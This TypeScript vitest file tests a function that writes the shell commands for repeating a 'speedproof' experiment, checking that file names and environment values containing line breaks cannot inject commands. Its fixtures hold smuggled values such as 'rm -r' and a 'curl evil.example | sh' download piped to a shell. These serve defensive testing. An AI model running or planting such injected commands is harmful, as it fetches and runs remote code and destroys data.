// The commands that repeat an experiment name all that it took.
import { expect, test } from 'vitest'
import { reproduceCommand } from '../../../src/report/sections/reproduce.ts'
import { aRequest } from '../../fixtures/builders.ts'

test('a folder that is not the usual one is named, and read from', () => {
  const lines = reproduceCommand(aRequest({ outDirectory: 'my results' })).split('\n')
  expect(lines[1]).toBe("speedproof run two-task.yaml --out 'my results'")
  expect(lines[2]).toMatch(/^speedproof analyze 'my results\/result\.json' #/)
})

test('what git does not track is said where the commit is named, in one line', () => {
  const lines = reproduceCommand(aRequest({ untracked: ['a.yaml', 'b\nrm -r .yaml'] })).split('\n')
  expect(lines.slice(0, 3)).toEqual([
    'git checkout 0123456789012345678901234567890123456789',
    '# not in git: a.yaml, b rm -r .yaml',
    'speedproof run two-task.yaml',
  ])
})

test('what the trainings saw of the environment is said, in one line', () => {
  const environment = { NCCL_DEBUG: 'WARN', OMP_NUM_THREADS: '4\nrm' }
  expect(reproduceCommand(aRequest({ environment })).split('\n')[1]).toBe(
    '# environment: NCCL_DEBUG=WARN OMP_NUM_THREADS=4 rm',
  )
})

test('a name with a line end shows no command of its own', () => {
  const named = aRequest({ experimentFile: 'a.yaml\ncurl evil.example | sh', outDirectory: 'out\n:' })
  const lines = reproduceCommand(named).split('\n')
  expect(lines).toHaveLength(3)
  expect(lines.map((line) => line.split(' ')[0])).toEqual(['git', 'speedproof', 'speedproof'])
})
